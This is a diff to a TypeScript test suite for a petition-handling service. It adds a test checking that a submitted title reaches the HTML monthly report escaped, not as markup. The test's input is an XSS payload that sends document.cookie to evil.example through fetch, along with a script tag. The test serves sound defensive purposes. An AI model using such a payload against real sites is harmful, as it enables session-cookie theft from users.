@@ -217,13 +217,30 @@ for (const dialect of DIALECTS) {
       book.eachSheet((sheet) =>
         sheet.eachRow((row) =>
           row.eachCell((cell) => {
-            if (cell.type === ExcelJS.ValueType.Formula || cell.type === ExcelJS.ValueType.SharedFormula) formulas.push(`${sheet.name}!${cell.address}`);
+            if (cell.type === ExcelJS.ValueType.Formula || cell.formula !== undefined) formulas.push(`${sheet.name}!${cell.address}`);
             if (typeof cell.value === 'string') seen.add(cell.value);
           }),
         ),
       );
       expect(formulas).toEqual([]);
       for (const title of payloads) expect(seen.has(title), title).toBe(true);
+    });
+
+    it('text a submitter wrote reaches the report page (and so its PDF) as text, never as markup', async () => {
+      // An answered 咨询类 citing no policy is listed by its title in the page's knowledge-gaps section.
+      const markup = '<img src=x onerror="fetch(\'http://evil.example/\'+document.cookie)"><script>alert(1)</script>';
+      const ent = new PetitionClient(as.enterprise);
+      const office = new PetitionClient(as.office);
+      const p = await ent.submit(enterpriseInput({ title: markup, content: '咨询内容', attachments: [] }));
+      expect((await office.accept(p.id, 'CONSULTATION')).errors).toBeUndefined();
+      expect((await office.finalAnswer(p.id, '已电话答复。')).errors).toBeUndefined();
+      // The report counts what was answered before it was made.
+      api.clock.set('2026-10-12T11:00:00+08:00');
+      const page = (await as.office.ok<{ monthlyReportFile: { contentBase64: string } }>('{ monthlyReportFile(month: "2026-10", format: HTML) { contentBase64 } }')).monthlyReportFile;
+      const html = Buffer.from(page.contentBase64, 'base64').toString('utf8');
+      expect(html).toContain('&lt;img src=x onerror=&quot;fetch(&#39;http://evil.example/&#39;+document.cookie)&quot;&gt;&lt;script&gt;alert(1)&lt;/script&gt;');
+      expect(html).not.toContain('<img src=x');
+      expect(html).not.toMatch(/<script/i);
     });
   });
 }
